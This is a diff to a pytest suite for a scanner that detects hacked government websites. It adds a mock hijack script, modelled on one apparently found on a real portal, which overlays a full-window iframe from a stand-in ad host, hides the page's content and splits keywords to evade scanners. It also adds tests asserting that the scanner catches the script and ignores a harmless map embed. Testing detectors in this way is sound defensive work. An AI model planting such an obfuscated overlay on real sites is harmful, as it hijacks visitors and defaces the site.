@@ -29,6 +29,15 @@ BOTS = ("Baiduspider", "Sogou", "360Spider", "Googlebot")
 GAMBLING = page("澳门新葡京-百家乐-真人娱乐官方网站",
                 "<h1>澳门新葡京娱乐城</h1><p>百家乐、老虎机、体育投注，注册送彩金，真人荷官在线发牌。</p>")
 PARTNER = page("示例行业协会", FILL + "<p>本会是本市依法登记的行业组织。</p>")
+# The shape of a script found loaded on a real provincial portal: a full-window frame of another
+# site over the page, the page's own content hidden, the keywords split to dodge scanners.
+OVERLAY_JS = ('var url = "https://www.overlay-ads.example.com/js/22.html";\n'
+              "var ss = '<div id=\"asdsa\" style=\"height: 100%; width: 100%;\"><ifr'+'ame scrolling=\"yes\" "
+              "width=\"100%\" height=\"100%\" src=\"'+url+'\"></iframe></div>"
+              "<style>html{width:100%;height:100%}body{overflow:hidden}</style>';\n"
+              'eval("do"+"cu"+"ment.wr"+"ite(\'"+ss+"\');");\n'
+              'setInterval(function(){for(var i=0;i<document.body.children.length;i++){'
+              'document.body.children[i].style.display="non"+"e";}},100);')
 
 
 def _result(out, cid):
@@ -47,7 +56,8 @@ def dns():
 @pytest.fixture
 def outside():
     """Two servers standing for other sites: a bought expired domain serving gambling, a normal partner."""
-    bet = LoopbackSite({"/": GAMBLING, "*": GAMBLING}).start()
+    bet = LoopbackSite({"/": GAMBLING, "*": GAMBLING,
+                        "/js/kb.js": Response(OVERLAY_JS, content_type="application/javascript")}).start()
     partner = LoopbackSite({"/": PARTNER, "*": PARTNER}).start()
     yield bet, partner
     bet.stop()
@@ -83,6 +93,7 @@ def hacked_routes(bet_port: int, partner_port: int) -> dict:
                              + f'<a href="http://partner.lab.test:{partner_port}/">合作单位</a>'
                              + '<a href="http://gone.lab.test/">原专题网站</a>'
                              + '<script src="/js/common.js"></script>'
+                             + f'<script src="http://bet-casino.example.com:{bet_port}/js/kb.js"></script>'
                              + f'<div class="footer">版权所有：示例市人民政府<div style="position:absolute;left:-9999px;top:-9999px">{farm}</div></div>'))
 
     def news(h):
@@ -130,6 +141,7 @@ def test_hacked_lab_site_is_caught_pattern_by_pattern(tmp_path, dns, outside):
 
     scripts = got["security.injected-scripts"]["evidence"]
     assert any("evil-js.example.xyz" in e["note"]["zh"] and "document.write" in e["excerpt"] for e in scripts)
+    assert any(e["url"].endswith("/js/kb.js") and "全屏框架" in e["note"]["zh"] for e in scripts)  # fetched from its host
 
     links = got["security.hijacked-links"]
     notes = [e["note"]["zh"] for e in links["evidence"]]
@@ -366,3 +378,13 @@ def test_hostile_markup_nesting_deep_does_not_break_the_analysis():
     found = sec.hidden_links(root, "http://www.example.gov.cn/")
     assert [(h.url, h.why) for h in found] == [("http://x.bad.top/", 'style="display:none"')]
     assert sec.stamps(root) == []
+
+
+def test_full_window_frame_overlay_found_on_a_real_portal():
+    js = OVERLAY_JS
+    kinds = {f.kind for f in sec.analyse_script(js, "www.example.gov.cn", D)}
+    assert "overlay-iframe" in kinds
+    # A map embedded at full size by ordinary string building is not one.
+    embed = ("var h = '<div class=\"map\">' + '<iframe src=\"https://tour.example-vr.com/pano/1\" "
+             "width=\"100%\" height=\"100%\"></iframe>' + '</div>'; document.getElementById('m').innerHTML = h;")
+    assert sec.analyse_script(embed, "www.example.gov.cn", D) == []
